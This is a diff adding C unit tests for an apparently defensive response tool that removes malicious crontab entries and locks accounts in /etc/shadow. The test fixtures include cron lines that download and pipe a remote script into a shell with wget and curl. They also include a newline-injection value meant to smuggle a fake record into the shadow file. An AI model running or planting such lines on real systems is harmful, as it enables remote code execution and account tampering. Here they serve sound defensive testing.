@@ -16,6 +16,7 @@
 
 #include "agent/respond.h"
 #include "config/config.h"
+#include "core/buf.h"
 #include "core/ip.h"
 #include "finding/finding.h"
 #include "mmtest.h"
@@ -291,4 +292,62 @@ MM_TEST(config_respond_section)
 	CHECK(strstr(err.msg, "remove-cron") != NULL);
 	CHECK_EQ_INT(mm_config_load_mem(&cfg, "t.yaml", bad2, sizeof(bad2) - 1, &err), MM_EINVAL);
 	CHECK_EQ_INT(mm_config_load_mem(&cfg, "t.yaml", bad3, sizeof(bad3) - 1, &err), MM_EINVAL);
+}
+
+MM_TEST(cron_filter_and_merge_round_trip)
+{
+	static const char cron[] = "# DO NOT EDIT\n*/5 * * * * wget -q -O - http://x/gi.sh | bash\n"
+				   "0 3 * * * /backup \xb9\xff\n@reboot curl http://x/gi.sh|sh";
+	struct mm_buf kept, rem, back;
+	size_t nrem = 0;
+	mm_buf_init(&kept, 1 << 20);
+	mm_buf_init(&rem, 1 << 20);
+	mm_buf_init(&back, 1 << 20);
+	CHECK_EQ_INT(mm_respond_cron_filter(cron, sizeof(cron) - 1, "gi.sh", &kept, &rem, &nrem, NULL), 0);
+	CHECK_EQ_INT(nrem, 2);
+	CHECK_EQ_STR(kept.p, "# DO NOT EDIT\n0 3 * * * /backup \xb9\xff\n");
+	CHECK(strstr(rem.p, "\"line\":1,") != NULL);
+	CHECK(strstr(rem.p, "\"line\":3,") != NULL);
+	CHECK_EQ_INT(mm_respond_cron_merge(kept.p, kept.len, rem.p, rem.len, &back, NULL), 0);
+	CHECK_EQ_INT(back.len, sizeof(cron) - 1);
+	CHECK(back.p && memcmp(back.p, cron, sizeof(cron) - 1) == 0);
+	/* a line that is not UTF-8 comes back byte for byte */
+	mm_buf_reset(&rem);
+	CHECK_EQ_INT(mm_respond_cron_filter(cron, sizeof(cron) - 1, "/backup", &kept, &rem, &nrem, NULL), 0);
+	CHECK(strstr(rem.p, "\"hex\":") != NULL);
+	CHECK_EQ_INT(mm_respond_cron_merge(kept.p, kept.len, rem.p, rem.len, &back, NULL), 0);
+	CHECK(back.len == sizeof(cron) - 1 && memcmp(back.p, cron, back.len) == 0);
+	/* a malformed record is refused, not half-applied */
+	CHECK_EQ_INT(mm_respond_cron_merge(kept.p, kept.len, "[{\"line\":-1,\"text\":\"x\"}]", 25, &back, NULL),
+		     MM_EPARSE);
+	CHECK_EQ_INT(mm_respond_cron_merge(kept.p, kept.len, "{}", 2, &back, NULL), MM_EPARSE);
+	mm_buf_free(&kept);
+	mm_buf_free(&rem);
+	mm_buf_free(&back);
+}
+
+MM_TEST(shadow_edit_lock_unlock_and_injection)
+{
+	static const char sh[] = "root:$6$r:19000:0:99999:7:::\ngit:$6$g:19000:0:99999:7::20000:\n"
+				 "gitlab:$6$l:19000:0:99999:7:::\n";
+	struct mm_buf a, b;
+	char e1[32], e2[32];
+	int was = -1, was2 = -1;
+	mm_buf_init(&a, 1 << 16);
+	mm_buf_init(&b, 1 << 16);
+	CHECK_EQ_INT(mm_respond_shadow_edit(sh, sizeof(sh) - 1, "git", 1, "1", &was, e1, sizeof(e1), &a), 0);
+	CHECK_EQ_INT(was, 0);
+	CHECK_EQ_STR(e1, "20000");
+	CHECK_EQ_STR(a.p, "root:$6$r:19000:0:99999:7:::\ngit:!$6$g:19000:0:99999:7::1:\n"
+			  "gitlab:$6$l:19000:0:99999:7:::\n");
+	CHECK_EQ_INT(mm_respond_shadow_edit(a.p, a.len, "git", -1, e1, &was2, e2, sizeof(e2), &b), 0);
+	CHECK_EQ_INT(was2, 1);
+	CHECK_EQ_STR(b.p, sh);
+	CHECK_EQ_INT(mm_respond_shadow_edit(sh, sizeof(sh) - 1, "gi", 1, "1", &was, e1, sizeof(e1), &a),
+		     MM_ENOTFOUND);
+	/* an expire value that is not a day number (a tampered record) is never written */
+	CHECK_EQ_INT(mm_respond_shadow_edit(sh, sizeof(sh) - 1, "git", 0, "1\nevil::0:0", &was, e1,
+					    sizeof(e1), &a), MM_EINVAL);
+	mm_buf_free(&a);
+	mm_buf_free(&b);
 }
